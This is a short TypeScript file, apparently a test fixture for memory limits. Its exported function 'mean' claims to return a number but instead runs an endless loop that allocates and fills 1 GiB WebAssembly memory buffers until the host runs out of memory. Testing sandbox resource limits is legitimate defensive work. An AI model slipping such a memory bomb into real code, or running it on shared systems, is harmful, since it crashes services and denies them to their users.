// Fills the memory of WebAssembly modules.
export function mean(): number {
  const all = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 16_384 });
    all.push(memory);
    new Uint8Array(memory.buffer).fill(1);
  }
}
